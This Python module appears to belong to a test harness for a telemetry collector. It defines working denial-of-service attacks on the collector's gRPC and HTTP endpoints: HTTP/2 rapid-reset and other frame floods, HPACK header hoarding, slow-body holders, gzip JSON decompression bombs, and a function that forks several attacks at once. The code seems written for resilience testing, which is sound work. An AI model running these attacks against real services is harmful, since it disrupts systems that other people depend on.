"""What attackers do: each runs in a process of its own until it is ended. `grpc` and `http` are the
collector's endpoints."""

import ctypes
import gzip
import json
import os
import random
import struct
import threading
import time

from hpack import Encoder

from frames import (CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, PRIORITY,
                    RST_STREAM, SETTINGS, UNKNOWN, WINDOW_UPDATE, Connection, data, frame,
                    grpc_fields, head, message)
from harness.items import make_body
from harness.raw import dial, http_post

MIB = 1 << 20
# A request that the wire scan takes, of about 3.9 MB.
LARGE = int(3.9 * MIB)


def large_body(size=LARGE):
    return message(make_body("traces", 1, item_bytes=int(size / 1.24))[0])


def many_bodies(grpc, _http, streams=150, connections=1, report=None):
    """HEADERS and the first five bytes on each stream, then all bodies, turn by turn. report: gets
    how many were answered, once all have ended."""
    body = large_body()
    opened = []
    for _ in range(connections):
        connection = Connection(grpc)
        bodies = {}
        for index in range(streams):
            stream = 2 * index + 1
            connection.send(head(stream) + frame(DATA, 0, stream, body[:5]))
            connection.window -= 5
            connection.windows[stream] = connection.windows.get(stream, connection.initial) - 5
            bodies[stream] = body[5:]
        opened.append((connection, bodies))
    for connection, bodies in opened:
        connection.upload(bodies, 60)
        deadline = time.monotonic() + 10
        while len(connection.ended) < streams and time.monotonic() < deadline:
            connection.read(0.1)
    if report:
        report.put(sum(how == "answer" for connection, _ in opened
                       for how in connection.ended.values()))
    time.sleep(60)


def holder(grpc, _http, streams=140):
    """All but the last bytes of each body as fast as it can, then one byte per stream now and
    then."""
    body = large_body()
    connection = Connection(grpc)
    numbers = [2 * index + 1 for index in range(streams)]
    connection.send(b"".join(map(head, numbers)))
    left = connection.upload(dict.fromkeys(numbers, body), 6, keep_last=100)
    while not connection.closed:
        for stream in left:
            if stream not in connection.ended:
                connection.send(frame(DATA, 0, stream, b"\0"))
        connection.read(5)


def slow_bodies_of_one_address(grpc, _http, connections=200, source="127.0.0.77"):
    """On each connection three bodies that stop before they need room, and a large one that comes
    just fast enough."""
    few = message(make_body("traces", 1, item_bytes=200_000)[0])
    large = large_body()
    opened = []
    for _ in range(connections):
        connection = Connection(grpc, source=source)
        connection.send(b"".join(map(head, (1, 3, 5, 7))))
        connection.upload({1: few, 3: few, 5: few}, 0.05, keep_last=len(few) - 60_000)
        opened.append([connection, memoryview(large)])
    due = time.monotonic()
    while True:
        for entry in opened:
            due += 1 / connections
            time.sleep(max(0.0, due - time.monotonic()))
            connection, rest = entry
            take = min(len(rest) - 1, connection.room(7), 20_000)
            if not connection.closed and 7 not in connection.ended and take > 0:
                connection.send(data(7, bytes(rest[:take]), end=False))
                connection.window -= take
                connection.windows[7] = connection.windows.get(7, connection.initial) - take
                entry[1] = rest[take:]
            connection.read()


def one_byte_frames(grpc, _http, streams=8, size=2 * MIB):
    """Bodies in DATA frames of one byte."""
    while True:
        connection = Connection(grpc)
        numbers = [2 * index + 1 for index in range(streams)]
        connection.send(b"".join(map(head, numbers)))
        piece = b"".join(frame(DATA, 0, number, b"\0") for number in numbers) * 200
        for _ in range(size // 200):
            if min(connection.room(number) for number in numbers) < 200:
                connection.read(0.05)
                continue
            for number in numbers:
                connection.windows[number] = (
                    connection.windows.get(number, connection.initial) - 200)
                connection.window -= 200
            if not connection.send(piece):
                break
            connection.read()
        connection.close()
        time.sleep(0.05)


def padded_with_unknown(grpc, _http, streams=100, rounds=100):
    """4 KB of DATA, then 240 KB of frames that mean nothing, again and again."""
    rest = frame(UNKNOWN, 0, 0, bytes(16384)) * 15
    connection = Connection(grpc)
    numbers = [2 * index + 1 for index in range(streams)]
    connection.send(b"".join(map(head, numbers)))
    for _ in range(rounds):
        for number in numbers:
            if connection.room(number) >= 4096:
                connection.window -= 4096
                connection.windows[number] = (
                    connection.windows.get(number, connection.initial) - 4096)
                if not connection.send(frame(DATA, 0, number, bytes(4096)) + rest):
                    time.sleep(60)
            connection.read()
    time.sleep(60)


def _text(octets):
    """A string of HPACK (RFC 7541 section 5.2), without Huffman code."""
    if len(octets) < 127:
        return bytes([len(octets)]) + octets
    rest = len(octets) - 127
    return bytes([127, rest & 127 | 128, rest >> 7]) + octets


def _literals(fields):
    """Fields that leave the dynamic table as it is."""
    return b"".join(b"\x00" + _text(name.encode()) + _text(value.encode())
                    for name, value in fields)


def header_hoard(grpc, _http, connections=60, streams=1000):
    """Open streams with 60 KB of headers each, from a few bytes of HPACK."""
    opened = []
    plain, name, value = _literals(grpc_fields()), b"x-large", b"a" * 3900
    # Into the dynamic table, of which it becomes entry 62.
    first = plain + b"\x40" + _text(name) + _text(value)
    block = plain + b"\xbe" * 15
    for _ in range(connections):
        connection = Connection(grpc)
        connection.send(frame(HEADERS, END_HEADERS, 1, first))
        for index in range(1, streams):
            connection.send(frame(HEADERS, END_HEADERS, 2 * index + 1, block))
            if index % 100 == 0:
                connection.read()
        opened.append(connection)
    while True:
        for connection in opened:
            connection.read()
        time.sleep(0.2)


def _priority(number):
    return frame(PRIORITY, 0, number, struct.pack(">IB", 0, 16))


def _plain_head(number, more=(), flags=END_HEADERS):
    """As head, quickly: the same octets for each."""
    block = _blocks.setdefault(more, _literals(grpc_fields(more=more)))
    return frame(HEADERS, flags, number, block)


_blocks = {}


def _rapid_reset(number):
    return _plain_head(number) + frame(RST_STREAM, 0, number, struct.pack(">I", 8))


class Plain:
    """An encoder without a table."""

    @staticmethod
    def encode(fields):
        return _literals(fields)


LARGE_HEADERS = grpc_fields(more=[("x-large", "a" * 15000)] * 5)
# What a flood consists of: a function of the number of a stream.
FLOODS = {
    "priority": _priority,
    "window_update": lambda number: frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)),
    "settings": lambda number: frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535)),
    "empty_settings": lambda number: frame(SETTINGS),
    "ping": lambda number: frame(PING, 0, 0, bytes(8)),
    "ping_ack": lambda number: frame(PING, 1, 0, bytes(8)),
    "rapid_reset": _rapid_reset,
    "empty_data": lambda number: frame(DATA, 0, 1),
    "padded_data": lambda number: frame(DATA, 8, 1, b"\x00"),
    "continuation": lambda number: frame(CONTINUATION, 0, 1),
    "unknown": lambda number: frame(UNKNOWN, 0, 0),
    "large_headers": lambda number: head(number, LARGE_HEADERS, END_HEADERS | END_STREAM,
                                         Plain()),
    "refused_streams": _plain_head,
}
# What comes before it.
BEFORE = {
    "empty_data": head(1), "padded_data": head(1),
    "continuation": frame(HEADERS, 0, 1, Encoder().encode(grpc_fields())),
}


def flood(grpc, _http, kind, connections=4):
    """Frames of one kind at full speed over a few connections, which come again when they are
    ended."""
    make = FLOODS[kind]
    most, step = (300, 50) if kind == "large_headers" else (30_000, 1000)
    pieces = [b"".join(make(2 * index + 1) for index in range(at, at + step))
              for at in range(1, most, step)]

    def begin():
        connection = Connection(grpc, answers=False)
        connection.send(BEFORE.get(kind, b""))
        return [connection, iter(pieces), b""]

    opened = [begin() for _ in range(connections)]
    while True:
        for index, (connection, rest, waits) in enumerate(opened):
            waits = waits or next(rest, None)
            if waits is None or connection.closed:
                connection.close()
                time.sleep(0.02)
                opened[index] = begin()
                continue
            opened[index][2] = waits[connection.offer(waits) :]
            connection.read()


def never_reads(grpc, _http, connections=4):
    """Requests without end; the answers stay in the socket."""
    body = message(make_body("traces", 0)[0])
    pieces = [b"".join(head(2 * index + 1) + data(2 * index + 1, body)
                       for index in range(at, at + 500)) for at in range(0, 50_000, 500)]

    def begin():
        return [Connection(grpc, read_buffer=4096), iter(pieces), b""]

    opened = [begin() for _ in range(connections)]
    while True:
        busy = False
        for index, (connection, rest, waits) in enumerate(opened):
            waits = waits or next(rest, None)
            if waits is None or connection.closed:
                connection.close()
                opened[index] = begin()
                continue
            sent = connection.offer(waits)
            busy = busy or sent > 0
            opened[index][2] = waits[sent:]
        if not busy:
            time.sleep(0.02)


def closed_windows(grpc, _http, connections=20, streams=1000):
    """Requests whose answers may not be sent: the client's windows stay closed."""
    body = message(make_body("traces", 0)[0])
    opened = []
    for _ in range(connections):
        connection = Connection(grpc, settings=[(4, 0)])
        for index in range(streams):
            number = 2 * index + 1
            if not connection.send(head(number) + data(number, body)):
                break
            if index % 50 == 0:
                connection.read()
        opened.append(connection)
    while True:
        for connection in opened:
            connection.read()
        time.sleep(0.2)


def tenants(grpc, _http, connections=2, streams=50_000):
    """Small requests, each with a value of its own for one metadata key."""
    body = message(make_body("traces", 1)[0])
    while True:
        opened = [Connection(grpc) for _ in range(connections)]
        for number in range(1, 2 * streams, 2):
            for index, connection in enumerate(opened):
                fields = grpc_fields(more=[("x-tenant", f"{os.getpid()}.{index}.{number}")])
                while not connection.closed and (
                        connection.room(number) < len(body)
                        or number // 2 - len(connection.ended) > 500):
                    connection.read(0.05)
                connection.window -= len(body)
                connection.send(head(number, fields, encoder=Plain()) + data(number, body))
                connection.read()
        for connection in opened:
            connection.close()


def idle(grpc, _http, connections=200):
    """Connections that say nothing."""
    opened = []
    while True:
        try:
            while len(opened) < connections:
                opened.append(dial(grpc))
        except OSError:
            pass
        time.sleep(0.2)


def json_tokens(size=20 * MIB):
    """JSON of many tokens that deflates to a thousandth."""
    return gzip.compress(b'{"resourceSpans":[' + b"0," * ((size - 40) // 2) + b"0]}", 9)


def json_nesting(size=20 * MIB):
    unit = b'{"x":[' + b"{}," * 1000 + b"{}]},"
    return gzip.compress(b'{"y":[' + unit * (size // len(unit)) + b"{}]}", 9)


def json_string(size=20 * MIB):
    text = json.dumps({"resourceSpans": [{"scopeSpans": [{"spans": [
        {"name": "a" * (size - 1000), "spanId": "0102030405060708",
         "traceId": "01020304050607080102030405060708"}]}]}]})
    return gzip.compress(text.encode(), 9)


def repeat(http, request):
    """The request again and again, each time over a connection of its own, without an end."""
    while True:
        try:
            connection = dial(http)
            connection.sendall(request)
            connection.recv(65536)
            connection.close()
        except OSError:
            time.sleep(0.05)


def inflated(_grpc, http, make=json_tokens, own_random=False):
    """Small bodies that become large ones, one after the other."""
    request = http_post("/v1/traces", make(), "application/json", **{"Content-Encoding": "gzip"})
    repeat(http, request)


def _upload(kind):
    """A request of about 3 MB of data that compresses badly, as `kind` has it."""
    text = random.Random(1).randbytes(3 * MIB // 2).hex()
    span = {"name": text, "spanId": "0102030405060708",
            "traceId": "01020304050607080102030405060708"}
    body = json.dumps({"resourceSpans": [{"scopeSpans": [{"spans": [span]}]}]}).encode()
    fields = {}
    if kind in ("gzip", "plain"):
        body = make_body("traces", 1, item_bytes=3 * MIB)[0]
    if kind in ("gzip", "gzip_json"):
        body, fields = gzip.compress(body, 1), {"Content-Encoding": "gzip"}
    form = "application/json" if kind.endswith("json") else "application/x-protobuf"
    return http_post("/v1/traces", body, form, **fields)


def uploads(_grpc, http, kind, clients=24):
    """Large requests without an end, over many connections at a time."""
    request = _upload(kind)
    threads = [threading.Thread(target=repeat, args=(http, request)) for _ in range(clients)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()


def plain_json(_grpc, http, size=18 * MIB):
    """JSON of many tokens, not compressed: as large as it may be."""
    unit = b'{"x":[' + b"{}," * 1000 + b"{}]},"
    body = b'{"y":[' + unit * (size // len(unit)) + b"{}]}"
    request = http_post("/v1/traces", body, "application/json")
    repeat(http, request)


def slow_http(_grpc, http, connections=100, size=19 * MIB):
    """HTTP/1.1 bodies of which all but the end comes at once, and then nothing more."""
    body = random.Random(1).randbytes(size)
    request = http_post("/v1/traces", body)[:-1000]
    opened = [dial(http) for _ in range(connections)]
    waits = {connection: memoryview(request) for connection in opened}
    for connection in opened:
        connection.setblocking(False)
    while True:
        busy = False
        for connection, rest in list(waits.items()):
            try:
                sent = connection.send(rest[: 1 << 18])
                busy = busy or sent > 0
                waits[connection] = rest[sent:]
            except BlockingIOError:
                pass
            except OSError:
                waits.pop(connection)
            if not len(waits.get(connection, b"x")):
                waits.pop(connection)
        if not busy:
            time.sleep(0.05)


def together(grpc, http):
    """Eight of them at once."""
    for attack in (many_bodies, holder, one_byte_frames, header_hoard, never_reads, inflated,
                   plain_json, slow_http):
        if os.fork() == 0:
            ctypes.CDLL(None).prctl(1, 9)  # PR_SET_PDEATHSIG: ends with its parent
            attack(grpc, http)
            os._exit(0)
    while True:
        time.sleep(1)
